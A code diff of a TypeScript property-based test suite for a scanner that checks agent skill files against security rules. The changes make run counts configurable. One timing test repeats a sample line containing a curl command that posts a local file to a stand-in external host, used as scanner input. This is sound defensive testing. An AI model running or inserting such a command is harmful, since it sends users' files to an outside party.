@@ -5,6 +5,7 @@ import fc from 'fast-check';
 import type { ScanReport } from '#mind/skills/guard/finding.ts';
 import { ALL_RULES } from '#mind/skills/guard/rules/all-rules.ts';
 import { scanSkill } from '#mind/skills/guard/scan-skill.ts';
+import { runs } from '../../../property-runs.ts';
 
 const head = (description: string): string => `---\nname: sample\ndescription: ${description}\n---\n\n# Sample\n\n`;
 const scan = (body: string, description = 'Tidy tables.'): ScanReport =>
@@ -84,7 +85,7 @@ describe('the scan holds against any text', () => {
           assert.deepEqual(scanSkill(files), scanSkill(files));
         },
       ),
-      { numRuns: 300 },
+      { numRuns: runs(300) },
     );
   });
 
@@ -113,7 +114,7 @@ describe('the scan holds against any text', () => {
       fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 80 }), (parts) => {
         scanSkill([{ path: 'SKILL.md', text: parts.join('') }]);
       }),
-      { numRuns: 300 },
+      { numRuns: runs(300) },
     );
   });
 
@@ -136,7 +137,9 @@ describe('the scan holds against any text', () => {
   });
 
   test('twice the text takes about twice the time', () => {
-    const body = 'Send the report to the team and run the tool. `curl -s https://a.example.net/x -d @f` '.repeat(1_500);
+    const body = 'Send the report to the team and run the tool. `curl -s https://a.example.net/x -d @f` '.repeat(
+      runs(1_500),
+    );
     const millisecondsOf = (text: string): number => {
       const start = performance.now();
       scanSkill([{ path: 'SKILL.md', text }]);
